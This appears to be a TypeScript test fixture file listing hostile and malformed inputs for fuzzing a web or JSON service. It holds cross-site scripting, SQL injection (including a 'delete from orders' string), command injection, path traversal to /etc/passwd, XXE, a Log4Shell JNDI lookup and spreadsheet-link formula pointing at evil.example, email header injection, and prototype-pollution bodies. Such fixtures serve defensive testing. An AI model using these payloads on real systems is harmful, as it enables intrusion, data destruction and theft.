export const hostileTexts: readonly string[] = [
  ...['', '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>'].flatMap((wayOut) => [
    `${wayOut}<script>alert(1)</script>`,
    `${wayOut}<img src=x onerror=alert\`1\`>`,
    `${wayOut}<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>`,
    `${wayOut}<a href="java\tscript:alert('1')">a</a>`,
  ]),
  '" onfocus=alert(1) autofocus x="',
  '</style><style>*{display:none}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<!ENTITY x SYSTEM "file:///etc/passwd">',
  ...Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`),
  ...['\u007f', '\u0085', '\u2028', '\ufeff', '\uffff', '\u00a0', '\u200b', '\u3164', '  \t  '],
  ...[
    '\u202eexe.gpj',
    '\u2066a\u2069',
    '\u200fשלום',
    'العربية \u202b123',
    'раypal.com',
    'ｆｕｌｌ',
  ],
  ...['e\u0301'.repeat(40), '👩‍👩‍👧‍👦', '\u{1f600}'.repeat(30), '\ud83d', 'a\ud800b', '\u{10ffff}'],
  ...['洗车预约', 'ਕਾਰ ਧੋਣੀ', '𝕨𝕒𝕤𝕙'],
  ...['-0', '1e1000', '9007199254740993', '0x10', '٠١٢', 'NaN', '-Infinity', '1,000', '½'],
  ...[
    'undefined',
    'null',
    'true',
    'constructor',
    '__proto__',
    'toString',
    'CON',
    '-- -',
    '[]',
    '%',
  ],
  ...['../../../../etc/passwd', 'C:\\boot.ini', '%2e%2e%2f', '/a\u0000.png', '//evil.example/'],
  "' or '1'='1",
  "'; delete from orders where 'a'='a",
  "1' and pg_sleep(5)--",
  '$(touch /tmp/a)',
  '\n/bin/ls',
  '{{constructor.constructor("alert(1)")()}}',
  '=HYPERLINK("http://evil.example")',
  '${jndi:ldap://evil.example/a}',
  'a\r\nBcc: all@evil.example',
  '"a@evil.example>\r\nSubject: b" <a@b.ca>',
];

export const wrongValues: readonly unknown[] = [
  ...[null, true, 0, -1, 0.1 + 0.2, 1e308, Number.MAX_SAFE_INTEGER + 2],
  ...['', ' ', '0', '[object Object]', '9'.repeat(400), 'a'.repeat(40_000), '\u0000', '\ud800'],
  ...[[], [null], [['a']], Array.from({ length: 2000 }, () => 1)],
  ...[{}, { length: -1 }, { toString: 'not a function', valueOf: 1 }, { $gt: '' }, { then: 1 }],
  JSON.parse('['.repeat(2000) + ']'.repeat(2000)),
];

const utf16 = (text: string) => Buffer.from(text, 'utf16le');

export const wrongBodies: Readonly<Record<string, string | Uint8Array<ArrayBuffer>>> = {
  nothing: '',
  'JSON null': 'null',
  'a JSON number': '1e400',
  'a JSON string': '"\\ud800"',
  'a JSON array': '[null, 1, "a", {}]',
  'a name twice': '{"a":1,"a":2}',
  'a comma too many': '{"a":1,}',
  'a name without quotes': '{a:1}',
  'a comment': '{"a":1}//',
  'two values': '{} {}',
  'an end too early': '{"a":',
  'a raw line break in a string': '"a\nb"',
  'a blank that is none': '\u00a0{}',
  'a new property for every object': '{"__proto__":{"polluted":1}}',
  'a new property by its constructor': '{"constructor":{"prototype":{"polluted":1}}}',
  'a new property further down': '{"items":[{"__proto__":{"polluted":1}}]}',
  'arrays 32,000 deep': '['.repeat(32_000) + ']'.repeat(32_000),
  'objects 12,000 deep without an end': '{"a":'.repeat(12_000),
  'UTF-16, little end first': Buffer.from(utf16('{"name":"Ann"}')),
  'UTF-16, big end first': Buffer.from(utf16('{"name":"Ann"}').swap16()),
  'Latin-1': Buffer.from('{"name":"Zoë"}', 'latin1'),
  'a character that is cut off': Buffer.from([0x22, 0xe2, 0x82]),
  'half of a pair in UTF-8': Buffer.from([0x5b, 0x22, 0xed, 0xa0, 0x80, 0x22]),
  'no text at all': Buffer.from(Array.from({ length: 1024 }, (_, index) => (index * 89) % 256)),
};

export const wrongHeaders: readonly Record<string, string>[] = [
  ...[
    '',
    'text/plain',
    'multipart/form-data; boundary=x',
    'application/json5',
    'a'.repeat(5000),
  ].map((type) => ({ 'Content-Type': type })),
  ...['gzip', 'br', 'chunked'].map((encoding) => ({ 'Content-Encoding': encoding })),
];

export const pollutingFields =
  '__proto__[polluted]=1&constructor[prototype][polluted]=1&constructor.prototype.polluted=1';
